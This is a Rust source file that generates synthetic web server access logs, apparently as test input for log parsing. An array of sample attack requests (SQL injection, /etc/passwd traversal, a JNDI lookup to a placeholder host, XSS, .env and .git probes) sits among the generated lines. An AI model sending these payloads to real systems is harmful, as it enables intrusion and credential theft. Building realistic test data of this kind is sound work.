//! A log as busy sites have them, generated: the same lines each time, as many as one likes.
//!
//! Some hundred thousand addresses of both kinds, most of which come rarely; a few thousand agents;
//! paths of which some are asked for again and again; visitors who look at some pages, each with what
//! belongs to it, forty at once; programs, errors, forms, attacks, and what is no request at all. Lines are out of order by seconds. All
//! addresses are private or of the documentation's range.

use std::fmt::Write as _;
use std::io::{self, Write};

/// Numbers that look random and are the same each time.
struct Dice(u64);

impl Dice {
    fn below(&mut self, below: u32) -> u32 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        u32::try_from(((self.0 >> 32) * u64::from(below)) >> 32).unwrap_or(0)
    }

    /// Small numbers far more often than large ones.
    fn skewed(&mut self, below: u32) -> u32 {
        let (one, two, three) = (self.below(below), self.below(below), self.below(below));
        let below = u64::from(below).max(1);
        let product = u64::from(one) * u64::from(two) / below * u64::from(three) / below;
        u32::try_from(product).unwrap_or(0)
    }
}

/// When the log begins, in seconds since 1970, and how many lines a second it has.
pub(crate) const BEGINS: i64 = 1_760_000_000;
const A_SECOND: u32 = 20;

/// How many visitors are here at once.
const HERE: u32 = 40;
const ADDRESSES: u32 = 120_000;
const AGENTS: u32 = 3_000;
const PAGES: u32 = 8_000;
const ASSETS: u32 = 4_000;

/// Writes that many lines.
pub(crate) fn write(lines: u32, out: &mut impl Write) -> io::Result<()> {
    let mut dice = Dice(0x9e37_79b9_7f4a_7c15);
    let agents: Vec<String> = (0..AGENTS).map(agent).collect();
    let pages: Vec<String> = (0..PAGES).map(page).collect();
    let assets: Vec<String> = (0..ASSETS).map(asset).collect();
    let mut here: Vec<Visitor> = (0..HERE).map(|_| Visitor::new(&mut dice)).collect();
    let mut line = String::with_capacity(512);
    let mut stamp = Stamp::default();
    for number in 0..lines {
        line.clear();
        let late = dice.below(3);
        stamp.put(BEGINS + i64::from(number / A_SECOND) + i64::from(late));
        let place = dice.below(HERE) as usize;
        let (visitor, asks) = here[place].next(&mut dice);
        if visitor.leaves(&mut dice) {
            here[place] = Visitor::new(&mut dice);
        }
        let person = visitor.person;
        // One in five comes by IPv6.
        if person % 5 == 0 {
            let (net, host) = (person / 7, person.wrapping_mul(40_503));
            let (site, net) = (net % 900, net / 900);
            let (high, low) = (host >> 16, host & 0xffff);
            let _ = write!(line, "2001:db8:{site:x}:{net:x}::{high:x}:{low:x}");
        } else {
            let _ = write!(line, "10.{}.{}.{}", person % 200, person / 500, person % 250);
        }
        let mut agent = agents[visitor.agent as usize].as_str();
        let size = dice.below(60_000);
        let mut status = if dice.below(10) == 0 { 304 } else { 200 };
        let (mut method, mut path) = match asks {
            Asks::Page(page) => ("GET", pages[page as usize].as_str()),
            Asks::Asset(asset) => ("GET", assets[asset as usize].as_str()),
        };
        let other;
        match dice.below(400) {
            0..12 => {
                status = [404, 404, 404, 403, 500, 502][dice.below(6) as usize];
                other = format!("/missing/{}", dice.skewed(20_000));
                path = &other;
            }
            12..28 => {
                other = format!("{path}?q={}&page={}", words(dice.below(5_000)), dice.below(20));
                path = &other;
            }
            28..32 => {
                path = ATTACKS[dice.below(8) as usize];
                status = [404, 404, 403, 200][dice.below(4) as usize];
            }
            32 => {
                // No request at all, and lines that are none.
                let odd = ODD[dice.below(4) as usize];
                let stamp = &stamp.text;
                match odd.strip_prefix('!') {
                    Some(line) => writeln!(out, "{line}")?,
                    None => writeln!(out, "{line} - - [{stamp}] \"{odd}\" 400 0 \"-\" \"-\"")?,
                }
                continue;
            }
            33..36 => agent = "-",
            36..48 => (method, path) = ("POST", "/account/settings"),
            48..52 => (method, path) = ("HEAD", "/"),
            52..60 => (path, status) = ("/old/place", 301),
            _ => {}
        }
        let from = if dice.below(3) == 0 { "-" } else { "https://www.example.org/articles/" };
        let _ = writeln!(
            line,
            " - - [{}] \"{method} {path} HTTP/1.1\" {status} {size} \"{from}\" \"{agent}\"",
            stamp.text
        );
        out.write_all(line.as_bytes())?;
    }
    Ok(())
}

/// Somebody who is here: looks at some pages, each of which brings what belongs to it.
#[derive(Clone, Copy)]
struct Visitor {
    person: u32,
    agent: u32,
    page: u32,
    assets: u32,
}

enum Asks {
    Page(u32),
    Asset(u32),
}

impl Visitor {
    fn new(dice: &mut Dice) -> Self {
        let person = dice.skewed(ADDRESSES);
        // A device has one agent, rarely two.
        let device = if dice.below(50) == 0 { person / 3 } else { person };
        let agent = (device.wrapping_mul(2_654_435_761) >> 8) % AGENTS;
        Self { person, agent, page: 0, assets: 0 }
    }

    /// What is asked for next. Programs fetch pages alone.
    fn next(&mut self, dice: &mut Dice) -> (Self, Asks) {
        let asks = if self.assets > 0 {
            self.assets -= 1;
            // The first few belong to every page, the others to this one.
            let own = self.page.wrapping_mul(7) + self.assets;
            Asks::Asset(if self.assets < 3 { self.assets } else { own % ASSETS })
        } else {
            self.page = dice.skewed(PAGES);
            self.assets =
                if self.agent.is_multiple_of(10) { 0 } else { dice.below(4) * dice.below(4) };
            Asks::Page(self.page)
        };
        (*self, asks)
    }

    /// Whether nothing more comes of them for now.
    fn leaves(&self, dice: &mut Dice) -> bool {
        self.assets == 0 && dice.below(100) < 45
    }
}

fn asset(number: u32) -> String {
    let kind = ["css", "js", "png", "woff2", "svg", "jpg"][number as usize % 6];
    format!("/assets/{:x}/{}-{number}.{kind}", number.wrapping_mul(2_654_435_761), words(number))
}

const ATTACKS: [&str; 8] = [
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
    "/cgi-bin/../../../../etc/passwd",
    "/?x=${jndi:ldap://203.0.113.9/a}",
    "/index.php?page=<script>alert(1)</script>",
    "/phpmyadmin/index.php",
];

const ODD: [&str; 4] = ["\\x16\\x03\\x01\\x02\\x00", "-", "!this is no line of a log", "GET"];

fn words(number: u32) -> String {
    const WORDS: [&str; 16] = [
        "water", "open", "night", "garden", "letter", "stone", "river", "paper", "winter", "music",
        "market", "silver", "window", "number", "forest", "island",
    ];
    let word = |shift: u32| WORDS[(number.wrapping_mul(0x9e37_79b1) >> shift) as usize % 16];
    format!("{}-{}", word(4), word(13))
}

fn page(number: u32) -> String {
    match number {
        0 => "/".to_owned(),
        1..50 => format!("/{}/", words(number)),
        _ => format!(
            "/articles/{}/{:02}/{}-{number}",
            2015 + number % 11,
            1 + number % 12,
            words(number)
        ),
    }
}

fn agent(number: u32) -> String {
    let minor = number / 10;
    match number % 10 {
        0 => format!(
            "Mozilla/5.0 (compatible; Examplebot/{}.{}; +https://bot.example/bot.html)",
            minor % 7,
            minor / 7
        ),
        1..5 => format!(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
             Chrome/{}.0.{}.{} Safari/537.36",
            100 + minor % 42,
            minor,
            number
        ),
        5..7 => format!(
            "Mozilla/5.0 (X11; Linux x86_64; rv:{0}.{1}) Gecko/20100101 Firefox/{0}.{1}",
            90 + minor % 50,
            minor / 50
        ),
        7 => format!(
            "Mozilla/5.0 (Linux; Android {}; SM-{number}) AppleWebKit/537.36 (KHTML, like Gecko) \
             Chrome/{}.0.0.0 Mobile Safari/537.36",
            10 + minor % 6,
            100 + minor % 42
        ),
        _ => format!(
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{0} like Mac OS X) AppleWebKit/605.1.15 (KHTML, \
             like Gecko) Version/17.{0} Mobile/15E{number} Safari/604.1",
            minor % 8
        ),
    }
}

/// A moment as the common log format has it, made anew when the second changes.
#[derive(Default)]
struct Stamp {
    second: i64,
    text: String,
}

impl Stamp {
    fn put(&mut self, second: i64) {
        if second != self.second {
            self.second = second;
            let time = jiff::Timestamp::from_second(second).unwrap_or(jiff::Timestamp::UNIX_EPOCH);
            self.text = time.strftime("%d/%b/%Y:%H:%M:%S +0000").to_string();
        }
    }
}
